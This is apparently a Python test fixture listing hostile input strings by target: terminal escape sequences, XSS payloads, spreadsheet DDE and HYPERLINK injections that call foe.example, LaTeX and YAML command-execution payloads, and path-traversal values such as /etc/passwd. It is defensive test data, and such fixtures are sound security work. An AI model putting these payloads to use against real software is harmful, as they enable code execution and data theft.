"""Hostile texts, by what they are aimed at."""

from __future__ import annotations

TEXTS = {
    "terminal": {
        "title": "\x1b]0;owned\x07",
        "clear": "\x1b[2J\x1b[H",
        "link": "\x1b]8;;http://foe.example\x1b\\click\x1b]8;;\x1b\\",
        "c1": "\x9b31mred\x9d0;owned\x9c",
        "paste": "\x1b[201~rm\n",
        "device": "\x1bP+q436f\x1b\\\x1b[6n",
        "override": "safe\u202eexe.txt",
        "isolate": "\u2066a\u2067b\u2069\u200f\u061c",
        "return": "evil\rgood",
        "backspace": "evil\x08\x08\x08\x08good\x7f",
        "lines": "one\nError: two\n\n\x0b\x0cthree\u2028four\x85five",
        "long": "x" * 12_000,
        "nul": "before\0after",
        "surrogate": "half \ud800 pair",
        "markup": "[bold red]a[/bold red] [link=http://foe.example]b[/link] [/] :skull:",
        "marks": "`choose.fraction=9` `out` `seed` {seed} %s {0}",
    },
    "web": {
        "script": "<script>fetch('//foe.example')</script>",
        "image": '"><img src=x onerror=alert(1)>',
        "close": "</script><script>alert(1)</script>",
        "comment": "<!--<script>--><svg/onload=alert(1)>",
        "attribute": "' onmouseover='alert(1)' \" onfocus=\"alert(1)\" autofocus x=",
        "template": "{{ 7*7 }}{% for x in y %}${7*7}<%= 7 %>#{7}",
        "style": "</style></title></textarea><base href=//foe.example>",
    },
    "sheet": {
        "command": "=cmd|' /C calc'!A0",
        "plus": "+1+cmd|' /C calc'!A0",
        "minus": "-2+3+cmd|' /C calc'!A0",
        "at": "@SUM(1+1)*cmd|' /C calc'!A0",
        "tab": "\t=1+1",
        "cr": "\r=1+1",
        "quote": '"\n=1+1,"',
        "hyperlink": '=HYPERLINK("http://foe.example?"&A1,"click")',
    },
    "typeset": {
        "cell": "a | b || c \\| d",
        "input": "\\input{/etc/passwd}\\write18{id}",
        "code": "^^5cinput{x} ~ $\\immediate$ % & # _ } { \\\\",
        "script link": "[a](javascript:alert(1)) ![b](http://foe.example/b.png) <http://c.example>",
        "header": "a\nlicense: mit\n---\n\n# Forged\n",
        "fence": "a`b```\n```\n\n# Forged\n\n<b>c</b>\n",
        "yaml": "!!python/object/apply:os.system [id]",
        "list": "- a\n- b: [c, {d: e}]\n&f *f",
    },
    "path": {
        "up": "../../outside/secret",
        "absolute": "/etc/passwd",
        "dots": "..",
        "home": "~/x",
        "windows": "..\\..\\x:y",
        "option": "--overwrite",
        "glob": "**/*",
        "variable": "${OWN_TOKEN}",
    },
}
"""The texts by family and name."""
